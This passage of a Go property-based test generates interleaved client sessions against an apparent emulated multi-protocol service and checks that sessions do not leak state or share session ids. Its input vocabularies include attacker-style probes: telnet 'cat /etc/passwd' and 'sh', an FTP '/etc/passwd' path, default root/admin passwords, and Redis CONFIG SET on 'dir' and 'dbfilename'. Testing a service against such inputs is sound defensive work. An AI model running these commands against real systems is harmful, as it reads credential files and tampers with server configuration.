		sc := &svc.Script{Service: c.Service, UDP: c.UDP,
			// fixed, distinct client addresses per session slot so alone/interleaved runs are comparable
			// same source port from different hosts (ephemeral ports repeat across hosts)
			SrcIP: clientIP(i, c.fam(i)), SrcPort: 41000 + (i%2)*(c.PortSpread), End: c.Sessions[i].End}
		for _, h := range c.Sessions[i].Steps {
			sc.Steps = append(sc.Steps, svc.Step{Data: vlib.UnHex(h)}) // the lock-step wait is done here, see waitIdle
		}
		sess[i] = &live{idx: i}
		sess[i].se = nil
		_ = sc
		sess[i].se = &svc.Session{Script: sc}
	}
	opened := map[int]*svc.Session{}
	for _, i := range order {
		l, ok := sess[i]
		if !ok {
			continue
		}
		if opened[i] == nil {
			opened[i] = in.Open(l.se.Script)
			if !c.UDP {
				waitIdle(opened[i].Conn) // greeting written, server waiting
			}
		}
		before := 0
		if c.UDP {
			before = len(opened[i].Dgrams)
		}
		opened[i].Next()
		if c.UDP {
			// datagram handlers have no completion signal: wait for the reply (all steps of the UDP grammars elicit one) or a short quiet period
			d := opened[i].Dgrams[before]
			bound := pat.bound(5 * time.Second)
			deadline := time.Now().Add(bound)
			for len(d.Snapshot()) == 0 && time.Now().Before(deadline) {
				time.Sleep(200 * time.Microsecond)
			}
			if len(d.Snapshot()) == 0 {
				pat.expired(bound)
				if os.Getenv("C03_DEBUG") != "" {
					fmt.Fprintf(os.Stderr, "NOREPLY session %d step %d names=%v hex=%s\n", i, before, c.Sessions[i].Names, c.Sessions[i].Steps[before][:min(60, len(c.Sessions[i].Steps[before]))])
				}
			}
		} else {
			waitIdle(opened[i].Conn)
		}
		if (c.History > 0 || i < c.Prefix || c.EarlyClose) && opened[i].Done() {
			opened[i].Finish()
			if !c.UDP {
				waitClosed(opened[i].Conn)
			}
		}
	}
	out := map[int]*result{}
	for _, i := range which {
		se := opened[i]
		r := &result{}
		out[i] = r
		if se == nil {
			continue
		}
		se.Finish()
		if !c.UDP {
			r.Closed = waitClosed(se.Conn)
		}
	}
	in.Cap.Settle(15*time.Millisecond, 400*time.Millisecond)
	collect := func() map[int]*result {
		res := map[int]*result{}
		for _, i := range which {
			res[i] = &result{Closed: out[i].Closed}
			collectOne(c, opened[i], res[i])
		}
		return res
	}
	return collect(), collect, in.Srv.Stop, nil
}

func collectOne(c isoCase, se *svc.Session, r *result) {
	{
		if se == nil {
			return
		}
		if c.UDP {
			for _, d := range se.Dgrams {
				var parts []string
				for _, rep := range d.Snapshot() {
					parts = append(parts, vlib.Hex(rep))
				}
				r.Dgrams = append(r.Dgrams, strings.Join(parts, ","))
			}
		} else {
			r.Out = canonOut(c.Service, se.Conn.Output())
		}
		evs := se.Events()
		ids := map[string]bool{}
		for _, e := range evs {
			if k := sessionKey(e); k != "" {
				ids[k] = true
			}
		}
		for k := range ids {
			r.SessID = append(r.SessID, k)
		}
		sort.Strings(r.SessID)
		r.Events = svc.Canon(evs, append([]string{"stacktrace"}, svc.SessionKeys...)...)
	}
}

func checkIso(c isoCase) error {
	all := make([]int, len(c.Sessions))
	for i := range all {
		all[i] = i
	}
	expiredWaits = 0
	// reference: each session alone on a fresh instance
	alone := map[int]*result{}
	var recollect []func()
	var stops []func()
	defer func() {
		for _, f := range stops {
			f()
		}
	}()
	for _, i := range all {
		i := i
		var ord []int
		for range c.Sessions[i].Steps {
			ord = append(ord, i)
		}
		r, again, stop, err := runSessionsLive(c, []int{i}, ord)
		if stop != nil {
			stops = append(stops, stop)
		}
		if err != nil {
			return err
		}
		alone[i] = r[i]
		recollect = append(recollect, func() { alone[i] = again()[i] })
	}
	together, againT, stopT, err := runSessionsLive(c, all, c.Order)
	if stopT != nil {
		stops = append(stops, stopT)
	}
	if err != nil {
		return err
	}
	recollect = append(recollect, func() { together = againT() })
	// asynchronous event pumps / datagram handlers: a difference must persist
	var last error
	for attempt := 0; attempt < 6; attempt++ {
		if attempt > 0 {
			time.Sleep(time.Duration(attempt) * 150 * time.Millisecond)
			for _, f := range recollect {
				f()
			}
		}
		if last = compareIso(c, all, alone, together); last == nil {
			return nil
		}
	}
	if expiredWaits > 0 {
		// some wait ran out: whatever was merely late has a long quiet period to arrive in
		time.Sleep(4 * time.Second)
		for _, f := range recollect {
			f()
		}
		last = compareIso(c, all, alone, together)
	}
	return last
}

func compareIso(c isoCase, all []int, alone, together map[int]*result) error {
	seenID := map[string]int{}
	for _, i := range all {
		a, t := alone[i], together[i]
		if c.History > 0 && i != len(c.Sessions)-1 {
			// history sessions only set the stage; the probe is what is compared
		}
		if !bytes.Equal(a.Out, t.Out) {
			return fmt.Errorf("session %d receives different bytes when other sessions are served (order %v):\n alone:    %q\n together: %q", i, c.Order, clip(a.Out), clip(t.Out))
		}
		if strings.Join(a.Dgrams, "|") != strings.Join(t.Dgrams, "|") {
			return fmt.Errorf("session %d receives different datagram replies when other sessions are served (order %v): alone %v, together %v", i, c.Order, a.Dgrams, t.Dgrams)
		}
		if strings.Join(a.Events, "\n") != strings.Join(t.Events, "\n") {
			return fmt.Errorf("events recorded for session %d (by its source address) differ when other sessions are served (order %v):\n alone (%d):    %s\n together (%d): %s", i, c.Order, len(a.Events), clip([]byte(strings.Join(a.Events, " || "))), len(t.Events), clip([]byte(strings.Join(t.Events, " || "))))
		}
		if len(t.SessID) > 1 {
			return fmt.Errorf("events of connection %d carry %d different session ids", i, len(t.SessID))
		}
		for _, id := range t.SessID {
			if j, dup := seenID[id]; dup {
				return fmt.Errorf("connections %d and %d share session id %s", j, i, id)
			}
			seenID[id] = i
		}
	}
	return nil
}

var ftpRootRx = regexp.MustCompile(`/[^ :]*ftpbase-[a-z0-9]+/ftp/[0-9a-f]+`)

// canonOut masks what legitimately differs between two server instances: the FTP
// root's host path (it is unique per instance and shows up in error replies) and the
// order of attributes in LDAP search results (built from a Go map).
func canonOut(service string, b []byte) []byte {
	switch service {
	case "ftp":
		return ftpRootRx.ReplaceAll(b, []byte("<ROOT>"))
	case "ldap":
		var out []byte
		rest := b
		for len(rest) > 0 {
			msg, n, ok := berCanon(rest)
			if !ok {
				return append(out, rest...)
			}
			out = append(out, msg...)
			rest = rest[n:]
		}
		return out
	}
	return b
}

// berCanon re-encodes one BER TLV; the children of a SEQUENCE whose children are all
// SEQUENCEs (LDAP's PartialAttributeList) are sorted.
func berCanon(b []byte) (out []byte, n int, ok bool) {
	if len(b) < 2 {
		return nil, 0, false
	}
	tag := b[0]
	l := int(b[1])
	hdr := 2
	if l&0x80 != 0 {
		k := l & 0x7f
		if k == 0 || k > 3 || len(b) < 2+k {
			return nil, 0, false
		}
		l = 0
		for i := 0; i < k; i++ {
			l = l<<8 | int(b[2+i])
		}
		hdr = 2 + k
	}
	if len(b) < hdr+l {
		return nil, 0, false
	}
	content := b[hdr : hdr+l]
	if tag&0x20 == 0 {
		return append([]byte(nil), b[:hdr+l]...), hdr + l, true
	}
	var kids [][]byte
	allSeq := true
	rest := content
	for len(rest) > 0 {
		k, m, ok := berCanon(rest)
		if !ok {
			return append([]byte(nil), b[:hdr+l]...), hdr + l, true
		}
		if rest[0] != 0x30 {
			allSeq = false
		}
		kids = append(kids, k)
		rest = rest[m:]
	}
	if tag == 0x30 && allSeq && len(kids) > 1 {
		sort.Slice(kids, func(i, j int) bool { return bytes.Compare(kids[i], kids[j]) < 0 })
	}
	out = append(out, b[:hdr]...)
	for _, k := range kids {
		out = append(out, k...)
	}
	return out, hdr + l, true
}

func clip(b []byte) string {
	if len(b) > 260 && os.Getenv("C03_DEBUG") == "" {
		return string(b[:260]) + "..."
	}
	return string(b)
}

// ---------------------------------------------------------------- session generators with per-session markers

// Besides its private marker every session draws arguments from a small vocabulary that
// all sessions of the case share (INFO sections, key names, paths, user names, DNs ...),
// each time in a drawn spelling (as is / upper / capitalised / mixed case). State that
// leaks through a table or cache on the shared service object needs two sessions that
// use the SAME key, possibly in different variants; private markers never collide.
// None of the services stores client data that another client could legitimately read
// back (redis and memcached answer every data command with a fixed text, tftp drops the
// upload, http has one fixed response), except FTP's directory tree: there the shared
// names are only used by commands that do not create anything.
var vocabPools = map[string]map[string][]string{
	"redis": {
		"section": {"server", "clients", "memory", "keyspace", "all", "default", "bogus", "cpu", "stats", "replication"},
		"key":     {"foo", "user:1", "session", "counter"},
		"param":   {"dir", "dbfilename", "maxmemory", "*"},
		"name":    {"cli", "worker"},
		"db":      {"0", "1", "15"},
	},
	"memcached": {
		"key":   {"foo", "user_1", "session", "counter"},
		"value": {"bar", "1", "hello world"},
	},
	"http": {
		"path":   {"/", "/index.html", "/admin/login.php", "/api/v1/status", "/robots.txt"},
		"host":   {"example.com", "localhost", "10.0.0.1:80"},
		"cookie": {"session=abc123", "lang=en; theme=dark"},
		"agent":  {"curl/7.58.0", "Mozilla/5.0 (compatible; scanner)"},
	},
	"telnet": {
		"user": {"root", "admin", "guest"},
		"pass": {"root", "admin", "12345"},
		"line": {"ls", "cat /etc/passwd", "uname -a", "enable", "sh", "", "help"},
	},
	"ldap": {
		"dn":   {"cn=root,dc=example,dc=com", "cn=admin", "uid=jdoe,ou=people,dc=example,dc=com", "cn=root"},
		"pass": {"root", "admin", "secret"},
		"val":  {"jdoe", "root", "*"},
	},
	"ftp": {
		"user": {"anonymous", "ftp", "root", "admin"},
		"pass": {"anonymous", "root", "guest@example.com"},
		"path": {"/", "pub", "/etc/passwd", "readme.txt", ".."},
	},
	"smtp": {
		"domain": {"example.org", "mail.example.net", "localhost"},
		"addr":   {"root@example.org", "postmaster@localhost", "info@example.net"},
	},
	"tftp": {
		"file": {"firmware.bin", "config", "boot/pxelinux.0"},
		"mode": {"octet", "netascii"},
	},
}

// genShared draws the vocabulary of one case: 1-3 words per kind, so that sessions
// meet on the same words often.
func genShared(t *rapid.T, service string) map[string][]string {
	service, _ = transport(service)
	pools := vocabPools[service]
	kinds := make([]string, 0, len(pools))
	for k := range pools {
		kinds = append(kinds, k)
	}
	sort.Strings(kinds)
	out := map[string][]string{}
	for _, k := range kinds {
		n := rapid.IntRange(1, 3).Draw(t, "nshared-"+k)
		if n > len(pools[k]) {
			n = len(pools[k])
		}
		out[k] = rapid.SliceOfNDistinct(rapid.SampledFrom(pools[k]), n, n, rapid.ID[string]).Draw(t, "shared-"+k)
	}
	return out
}

// spell returns w in one of its spellings: as is (half of the draws), upper case,
// capitalised, or with a drawn subset of its letters in upper case.
func spell(t *rapid.T, w string) string {
	switch rapid.IntRange(0, 7).Draw(t, "spelling") {
	case 4, 5:
		return strings.ToUpper(w)
	case 6:
		if w == "" {
			return w
		}
		return strings.ToUpper(w[:1]) + w[1:]
	case 7:
		b := []byte(w)
		bits := rapid.Uint32().Draw(t, "caps")
		for i := range b {
			if bits>>(uint(i)%32)&1 == 1 && b[i] >= 'a' && b[i] <= 'z' {
				b[i] -= 'a' - 'A'
			}
		}
		return string(b)
	}
	return w
}

// mostly returns w in the spelling clients normally use, sometimes another one
func mostly(t *rapid.T, w string) string {
	if rapid.IntRange(0, 3).Draw(t, "odd-spelling") == 0 {
		if w == strings.ToUpper(w) {
			w = strings.ToLower(w)
		}
		return spell(t, w)
	}
	return w
}

func respArray(args ...string) []byte {
	var b bytes.Buffer
	fmt.Fprintf(&b, "*%d\r\n", len(args))
	for _, a := range args {
		fmt.Fprintf(&b, "$%d\r\n%s\r\n", len(a), a)
	}
	return b.Bytes()
}

// transport returns the configured service key and the transport of a grammar entry:
// "memcached-udp" is the memcached service reached through its UDP port.
func transport(service string) (key string, udp bool) {
	switch service {
	case "memcached-udp":
		return "memcached", true
	case "tftp":
		return "tftp", true
	}
	return service, false
}

func genSession(t *rapid.T, service string, slot int, shared map[string][]string) session {
	service, udp := transport(service)
	m := fmt.Sprintf("m%dx%s", slot, rapid.StringMatching("[a-z]{3}").Draw(t, "marker"))
	var s session
	add := func(name string, wire []byte) {
		s.Names = append(s.Names, name)
		s.Steps = append(s.Steps, vlib.Hex(wire))
	}
	// a word of the case's shared vocabulary in a drawn spelling
	word := func(kind string) string {
		return spell(t, rapid.SampledFrom(shared[kind]).Draw(t, kind))
	}
	// the session's own marker (own) or a shared word
	arg := func(kind, own string) string {
		if rapid.IntRange(0, 2).Draw(t, "own-"+kind) == 0 {
			return own
		}
		return word(kind)
	}
	n := rapid.IntRange(2, 6).Draw(t, "nsteps")
	switch service {
	case "ftp":
		user := "anonymous"
		if rapid.IntRange(0, 3).Draw(t, "other-user") == 0 {
			user = word("user")
		}
		add("USER", []byte(mostly(t, "USER")+" "+user+"\r\n"))
		pass := rapid.SampledFrom([]string{"anonymous", "anonymous", "wrong"}).Draw(t, "pass")
		if rapid.IntRange(0, 3).Draw(t, "other-pass") == 0 {
			pass = word("pass")
		}
		add("PASS", []byte(mostly(t, "PASS")+" "+pass+"\r\n"))
		for i := 0; i < n; i++ {
			c := rapid.SampledFrom([]string{"PWD", "MKD " + m, "CWD " + m, "CDUP", "PWD", "RMD " + m, "CWD /", "SYST", "NOOP", "RNFR " + m, "SIZE " + m, "FEAT", "HELP", "STAT", "TYPE I", "MODE S", "OPTS UTF8 ON", "ALLO 10", "REST 0", "XPWD", "XMKD " + m + "x", "XRMD " + m + "x", "DELE " + m,
				// shared names, only with commands that create nothing (not MDTM: its reply is a time stamp)
				"CWD ?", "SIZE ?", "RNFR ?", "XCWD ?"}).Draw(t, "cmd")
			f := strings.SplitN(c, " ", 2)
			c = mostly(t, f[0])
			if len(f) > 1 {
				if f[1] == "?" {
					f[1] = word("path")
				}
				c += " " + f[1]
			}
			add(f[0], []byte(c+"\r\n"))
		}
	case "smtp":
		// who the session claims to be: its marker or a shared name
		domain := arg("domain", m+".example")
		add("EHLO", []byte(mostly(t, "EHLO")+" "+domain+"\r\n"))
		for i := 0; i < n; i++ {
			from := arg("addr", m+"@example.org")
			switch rapid.SampledFrom([]string{"mail", "bdat", "bdat-abandoned", "noop", "rset", "vrfy", "help"}).Draw(t, "unit") {
			case "bdat":
				add("MAIL", []byte("MAIL FROM:<"+from+">\r\n"))
				msg := "Subject: bdat-" + m + "\r\n\r\nchunked body of " + m + "\r\n"
				add("BDAT-LAST", []byte(fmt.Sprintf("BDAT %d LAST\r\n%s", len(msg), msg)))
			case "bdat-abandoned":
				// a first chunk that is never completed (client resets or just leaves)
				add("MAIL", []byte("MAIL FROM:<"+from+">\r\n"))
				chunk := "Subject: abandoned-" + m + "\r\n\r\nstale bytes of " + m + "\r\n"
				add("BDAT", []byte(fmt.Sprintf("BDAT %d\r\n%s", len(chunk), chunk)))
				if rapid.Bool().Draw(t, "rset") {
					add("RSET", []byte("RSET\r\n"))
				}
			case "mail":
				add("MAIL", []byte(mostly(t, "MAIL FROM")+":<"+from+">\r\n"))
				add("RCPT", []byte(mostly(t, "RCPT TO")+":<"+arg("addr", "rcpt-"+m+"@example.net")+">\r\n"))
				add("DATA", []byte("DATA\r\n"))
				add("message", []byte("From: "+from+"\r\nSubject: "+m+"\r\n\r\nbody of "+m+"\r\n.\r\n"))
			case "noop":
				add("NOOP", []byte(mostly(t, "NOOP")+"\r\n"))
			case "rset":
				add("RSET", []byte(mostly(t, "RSET")+"\r\n"))
			case "help":
				add("HELP", []byte(mostly(t, "HELP")+"\r\n"))
			default:
				add("VRFY", []byte("VRFY "+arg("addr", m)+"\r\n"))
			}
		}
	case "telnet":
		add("user", []byte(arg("user", "user"+m)+"\r\n"))
		add("pass", []byte(arg("pass", "pw"+m)+"\r\n"))
		for i := 0; i < n; i++ {
			if rapid.Bool().Draw(t, "shared-line") {
				// the very same command line as other sessions type
				add("line", []byte(word("line")+"\r\n"))
			} else {
				add("line", []byte(rapid.SampledFrom([]string{"ls", "cat /etc/passwd", "echo "}).Draw(t, "cmd")+" "+m+"\r\n"))
			}
		}
	case "redis":
		// the service implements INFO only, every other command gets the same fixed error
		// text whatever was sent before: no reply depends on stored data
		for i := 0; i < n; i++ {
			var a []string
			switch rapid.SampledFrom([]string{"info", "info", "info", "info", "info-plain", "info-two", "key", "key", "config", "client", "select", "plain", "glued"}).Draw(t, "cmd") {
			case "info":
				sec := word("section")
				if rapid.IntRange(0, 7).Draw(t, "own-section") == 0 {
					sec = m
				}
				a = []string{spell(t, "info"), sec}
			case "info-plain":
				a = []string{spell(t, "info")}
			case "info-two":
				a = []string{spell(t, "info"), word("section"), word("section")}
			case "key":
				c := rapid.SampledFrom([]string{"GET", "SET", "DEL", "EXISTS", "INCR", "EXPIRE", "TYPE", "KEYS"}).Draw(t, "keycmd")
				a = []string{mostly(t, c), arg("key", m)}
				switch c {
				case "SET":
					a = append(a, m)
				case "EXPIRE":
					a = append(a, "100")
				}
			case "config":
				a = []string{mostly(t, "CONFIG"), mostly(t, "GET"), arg("param", m)}
				if rapid.IntRange(0, 3).Draw(t, "config-set") == 0 {
					a = []string{mostly(t, "CONFIG"), mostly(t, "SET"), arg("param", m), m}
				}
			case "client":
				if rapid.Bool().Draw(t, "setname") {
					a = []string{mostly(t, "CLIENT"), mostly(t, "SETNAME"), arg("name", m)}
				} else {
					a = []string{mostly(t, "CLIENT"), mostly(t, rapid.SampledFrom([]string{"GETNAME", "LIST", "ID"}).Draw(t, "clientcmd"))}
				}
			case "select":
				a = []string{mostly(t, "SELECT"), word("db")}
			case "plain":
				a = []string{mostly(t, rapid.SampledFrom([]string{"PING", "DBSIZE", "COMMAND", "FLUSHALL", "SAVE", "ROLE"}).Draw(t, "plaincmd"))}
				if a[0] == "PING" && rapid.Bool().Draw(t, "ping-arg") {
					a = append(a, m)
				}
			default:
				// the marker glued to the command name: shows up in the error reply and the event
				a = []string{rapid.SampledFrom([]string{"INFO", "GET", "SET", "PING"}).Draw(t, "gluedcmd") + m, m}
			}
			add(strings.Join(a, " "), respArray(a...))
		}
	case "memcached":
		if udp && n > 4 {
			// one command per datagram, at most 4 per source (the limiter's burst, see tftp)
			n = 4
		}
		for i := 0; i < n; i++ {
			switch rapid.SampledFrom([]string{"get", "get", "store", "store", "key", "flush", "stats", "version"}).Draw(t, "cmd") {
			case "get":
				c := mostly(t, rapid.SampledFrom([]string{"get", "gets"}).Draw(t, "getcmd")) + " " + arg("key", m)
				if rapid.IntRange(0, 3).Draw(t, "two-keys") == 0 {
					c += " " + arg("key", m)
				}
				add("get", []byte(c+"\r\n"))
			case "store":
				c := rapid.SampledFrom([]string{"set", "set", "add", "replace", "append", "prepend", "cas"}).Draw(t, "storecmd")
				val := arg("value", m)
				name := c
				if !udp {
					// (over UDP a misspelt storage command makes the service take the data block for a
					// second command of the same datagram: two limiter tokens, and events of two
					// datagram handlers in no fixed order - the lone run would be no reference)
					name = mostly(t, c)
				}
				line := fmt.Sprintf("%s %s %d %d %d", name, arg("key", m), rapid.SampledFrom([]int{0, 0, 1, 42}).Draw(t, "flags"), rapid.SampledFrom([]int{0, 0, 60}).Draw(t, "exp"), len(val))
				if c == "cas" {
					line += " 7"
				}
				add(c, []byte(line+"\r\n"+val+"\r\n"))
			case "key":
				c := rapid.SampledFrom([]string{"delete", "incr", "decr", "touch"}).Draw(t, "keycmd")
				line := mostly(t, c) + " " + arg("key", m)
				if c != "delete" {
					line += " 1"
				}
				add(c, []byte(line+"\r\n"))
			case "flush":
				add("flush_all", []byte(mostly(t, "flush_all")+"\r\n"))
			case "version":
				add("version", []byte(mostly(t, "version")+"\r\n"))
			default:
				c := mostly(t, "stats")
				if rapid.IntRange(0, 2).Draw(t, "stats-arg") == 0 {
					c += " " + rapid.SampledFrom([]string{"items", "slabs", "settings"}).Draw(t, "statsarg")
				}
				add("stats", []byte(c+"\r\n"))
			}
		}
	case "http":
		for i := 0; i < n; i++ {
			path := arg("path", "/"+m)
			host := arg("host", m)
			hdr := ""
			if rapid.Bool().Draw(t, "cookie") {
				hdr += mostly(t, "Cookie") + ": " + arg("cookie", "id="+m) + "\r\n"
			}
			if rapid.Bool().Draw(t, "agent") {
				hdr += mostly(t, "User-Agent") + ": " + arg("agent", m) + "\r\n"
			}
			method := rapid.SampledFrom([]string{"GET", "GET", "POST", "POST", "PUT", "DELETE", "OPTIONS"}).Draw(t, "method")
			switch method {
			case "POST", "PUT":
				add(method, []byte(fmt.Sprintf("%s %s HTTP/1.1\r\nHost: %s\r\n%sContent-Length: %d\r\n\r\n%s", method, path, host, hdr, len(m), m)))
			default:
				add(method, []byte(fmt.Sprintf("%s %s?i=%d HTTP/1.1\r\nHost: %s\r\n%sX-Marker: %s\r\n\r\n", method, path, i, host, hdr, m)))
			}
		}
	case "ldap":
		id := 1
		for i := 0; i < n; i++ {
			id++
			dn := arg("dn", "cn="+m)
			switch rapid.SampledFrom([]string{"bind-ok", "bind-bad", "bind-anon", "bind", "modify", "add", "delete", "compare", "search", "search", "search-dse"}).Draw(t, "op") {
			case "bind-ok":
				add("bind-ok", svc.LDAPBind(id, "cn=root,dc="+m, "root"))
			case "bind-bad":
				add("bind-bad", svc.LDAPBind(id, "cn=root,dc="+m, "bad"+m))
			case "bind-anon":
				add("bind-anon", svc.LDAPBind(id, "", ""))
			case "bind":
				add("bind", svc.LDAPBind(id, dn, arg("pass", "pw"+m)))
			case "modify":
				add("modify", svc.LDAPModify(id, dn))
			case "add":
				add("add", svc.LDAPAdd(id, dn))
			case "delete":
				add("delete", svc.LDAPDelete(id, dn))
			case "compare":
				add("compare", svc.LDAPCompare(id, dn, "cn", arg("val", m)))
			case "search":
				base := "dc=" + m
				if rapid.Bool().Draw(t, "shared-base") {
					base = word("dn")
				}
				add("search", svc.LDAPSearch(id, base, mostly(t, rapid.SampledFrom([]string{"uid", "givenName", "cn"}).Draw(t, "attr")), arg("val", m)))
			default:
				add("search-dse", svc.LDAPSearch(id, "", "", "*"))
			}
		}
	case "tftp":
		// at most 4 datagrams per source (the limiter's burst is a stated property of its own, C10)
		if n > 4 {
			n = 4
		}
		// the service keys a transfer by the client address and keeps nothing afterwards,
		// so the same file name may be used by several sessions
		file := arg("file", m+".bin")
		mode := word("mode")
		// clients also send what the protocol does not expect at that point: a DATA block
		// without an open transfer (retransmission after the transfer ended, lost WRQ), a
		// read request (an ACK gets no reply at all, which the lock-step runner would wait for)
		switch rapid.SampledFrom([]string{"upload", "upload", "upload", "stray-data", "stray-then-upload", "rrq"}).Draw(t, "tftp-kind") {
		case "stray-data":
			add("data", append([]byte{0, 3, 0, byte(rapid.IntRange(0, 3).Draw(t, "blk"))}, []byte(m)...))
			return s
		case "stray-then-upload":
			add("data", append([]byte{0, 3, 0, 1}, []byte(m)...))
			if n > 3 {
				n = 3
			}
		case "rrq":
			add("rrq", append([]byte{0, 1}, []byte(file+"\x00"+mode+"\x00")...))
			return s
		}
		add("wrq", append([]byte{0, 2}, []byte(file+"\x00"+mode+"\x00")...))
		for i := 1; i < n; i++ {
			last := i == n-1
			sz := 512
			if last {
				sz = rapid.IntRange(0, 100).Draw(t, "lastlen")
			}
			blk := append([]byte{0, 3, 0, byte(i)}, bytes.Repeat([]byte(m), sz/len(m)+1)[:sz]...)
			add("data", blk)
		}
	}
	if udp {
		if service == "memcached" {
			// memcached's UDP frame header: request id, sequence number 0, 1 datagram in total, reserved
			for i, h := range s.Steps {
				id := rapid.Uint16().Draw(t, "reqid")
				s.Steps[i] = vlib.Hex([]byte{byte(id >> 8), byte(id), 0, 0, 0, 1, 0, 0}) + h
			}
		}
		return s
	}
	// segmentation: in a third of the sessions one or two requests reach the server in two
	// segments, as two consecutive steps - other sessions' steps may fall into the gap, while
	// the service holds a half-read request (seed C03-r5-1: a preview buffer shared by all
	// connections is only visible when another session stores between the two halves of a
	// value). The lone reference run delivers the same two segments.
	if len(s.Steps) > 0 && rapid.IntRange(0, 2).Draw(t, "segmented") == 0 {
		for k := rapid.IntRange(1, 2).Draw(t, "nsplit"); k > 0; k-- {
			i := rapid.IntRange(0, len(s.Steps)-1).Draw(t, "split-step")
			w := vlib.UnHex(s.Steps[i])
			if len(w) < 2 || strings.Contains(s.Names[i], "/part") {
				continue
			}
			cut := rapid.IntRange(1, len(w)-1).Draw(t, "cut")
			if rapid.Bool().Draw(t, "cut-late") {
				// inside the last third: the body of a command that announces one
				cut = rapid.IntRange(len(w)-1-(len(w)-1)/3, len(w)-1).Draw(t, "latecut")
			}
			steps := append([]string{}, s.Steps[:i]...)
			steps = append(steps, vlib.Hex(w[:cut]), vlib.Hex(w[cut:]))
			s.Steps = append(steps, s.Steps[i+1:]...)
			names := append([]string{}, s.Names[:i]...)
			names = append(names, s.Names[i]+"/part1", s.Names[i]+"/part2")
			s.Names = append(names, s.Names[i+1:]...)
		}
	}
	// how the client leaves: it just closes (half of the draws), says goodbye the way its
	// protocol has it and then closes, or aborts the connection
	switch rapid.SampledFrom([]string{"close", "close", "close", "bye", "bye", "bye", "bye+reset", "reset"}).Draw(t, "ending") {
	case "bye":
		genBye(t, service, m, add)
	case "bye+reset":
		genBye(t, service, m, add)
		s.End = "reset"
	case "reset":
		s.End = "reset"
	}
	return s
}

// genBye appends the protocol's own way of ending a session as an ordinary last step.
// Where the service does not implement one (redis, memcached, http keep the connection,
// telnet's "exit" is a command like any other) it is still what clients send last.
func genBye(t *rapid.T, service, m string, add func(string, []byte)) {
	switch service {
	case "ftp", "smtp":
		add("QUIT", []byte(mostly(t, "QUIT")+"\r\n"))
	case "telnet":
		if rapid.Bool().Draw(t, "ctrl-d") {
			add("^D", []byte{4})
		} else {
			add("line", []byte(rapid.SampledFrom([]string{"exit", "logout", "quit"}).Draw(t, "bye")+"\r\n"))
		}
	case "redis":
		a := []string{mostly(t, "QUIT")}
		add(a[0], respArray(a...))
	case "memcached":
		add("quit", []byte(mostly(t, "quit")+"\r\n"))
	case "http":
		add("GET", []byte(fmt.Sprintf("GET /%s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", m, m)))
	case "ldap":
		add("unbind", svc.LDAPUnbind(99))
	}
}

var services = []string{"ldap", "ftp", "smtp", "telnet", "redis", "memcached", "http", "tftp", "memcached-udp"}

func merges(counts []int, limit int, emit func([]int) bool) {
	total := 0
	for _, c := range counts {
		total += c
	}
	left := append([]int(nil), counts...)
	cur := make([]int, 0, total)
	n := 0
	var rec func() bool
	rec = func() bool {
		if len(cur) == total {
			n++
			return emit(append([]int(nil), cur...)) && n < limit
		}
		for i := range left {
			if left[i] > 0 {
				left[i]--
				cur = append(cur, i)
				ok := rec()
				cur = cur[:len(cur)-1]
				left[i]++
				if !ok {
					return false
				}
			}
		}
		return true
	}
	rec()
}

func alternations(order []int) int {
	n := 0
	for i := 1; i < len(order); i++ {
		if order[i] != order[i-1] {
			n++
		}
	}
	return n
}

func famLabel(c isoCase) []string {
	out := make([]string, len(c.Sessions))
	for i := range out {
		out[i] = famNames[c.fam(i)]
	}
	return out
}

// countFams labels what the case covers: address families met, protocol goodbyes, aborts.
func countFams(r *vlib.Run, test string, c isoCase) {
	v6 := 0
	for i := range c.Sessions {
		if c.fam(i) >= famV6Global {
			v6++
		}
	}
	if v6 >= 2 {
		r.Label(test+"/two-or-more-ipv6-clients", 1)
	}
	if v6 >= 1 && v6 < len(c.Sessions) {
		r.Label(test+"/mixed-address-families", 1)
	}
	for i, s := range c.Sessions {
		if len(s.Names) == 0 {
			continue
		}
		switch s.Names[len(s.Names)-1] {
		case "QUIT", "^D", "unbind", "quit":
			if i < len(c.Sessions)-1 {
				r.Label(test+"/earlier-session-said-goodbye", 1)
			}
		}
		if s.End == "reset" {
			r.Label(test+"/session-aborted", 1)
		}
		for _, n := range s.Names {
			if strings.HasSuffix(n, "/part1") {
				r.Label(test+"/request-in-two-segments", 1)
				break
			}
		}
	}
}

func TestInterleavings(t *testing.T) {
	r := vlib.Open(prop)
	var ic isoCase
	if vlib.ReplayCase("TestInterleavings", &ic) {
		if err := checkIso(ic); err != nil {
			r.Violation(t, "TestInterleavings", ic, err.Error())
		}
		return
	}
	r.Rule("for ldap, ftp, smtp, telnet, redis, memcached (TCP and UDP), http, tftp: 2-3 scripted sessions (2-8 lock-step request/response steps, per-session marker strings next to a per-case vocabulary of 1-3 arguments per kind that all sessions share - INFO sections, keys, paths, hosts, user names, DNs, file names - each use in a drawn spelling: as is / upper / capitalised / mixed case; command names in drawn case too; distinct client hosts whose address family is drawn per case or per session: IPv4 in 16- and 4-byte form, IPv6 global / link-local / unique-local; in a third of the sessions one or two requests are delivered in two segments as two steps, so that other sessions' steps fall between the halves of a request; each session ends as drawn: half-close, the protocol's own goodbye as last step, abort; in a quarter of the cases a session is ended as soon as it is through instead of after all) on a FRESH server instance per run; a drawn interleaving of their steps plus, for small cases (<=7 steps in total), ALL merges; oracle = differential: bytes received and events recorded (by source address) for each session equal those of the same session alone on a fresh instance; one session id per connection, never shared; non-trivial = >=2 sessions mid-dialogue with >=1 alternation; distinct by sessions+order")
	r.Rapid(t, "TestInterleavings", r.Pick(70, 700), func(rt *rapid.T) {
		service := rapid.SampledFrom(services).Draw(rt, "service")
		key, udp := transport(service)
		c := isoCase{Service: key, UDP: udp, PortSpread: rapid.IntRange(0, 1).Draw(rt, "portspread")}
		c.Shared = genShared(rt, service)
		k := rapid.IntRange(2, 3).Draw(rt, "nsessions")
		c.Fams = genFams(rt, k)
		c.EarlyClose = !udp && rapid.IntRange(0, 3).Draw(rt, "early-close") == 0
		var counts []int
		total := 0
		for i := 0; i < k; i++ {
			s := genSession(rt, service, i, c.Shared)
			c.Sessions = append(c.Sessions, s)
			counts = append(counts, len(s.Steps))
			total += len(s.Steps)
		}
		// drawn interleaving
		left := append([]int(nil), counts...)
		for len(c.Order) < total {
			i := rapid.IntRange(0, k-1).Draw(rt, "pick")
			if left[i] > 0 {
				left[i]--
				c.Order = append(c.Order, i)
			}
		}
		check := func(order []int) {
			cc := c
			cc.Order = order
			fp := ""
			if alternations(order) >= 1 {
				fp = vlib.JSON(cc)
			}
			r.Case("interleave/"+service, fp, func() interface{} {
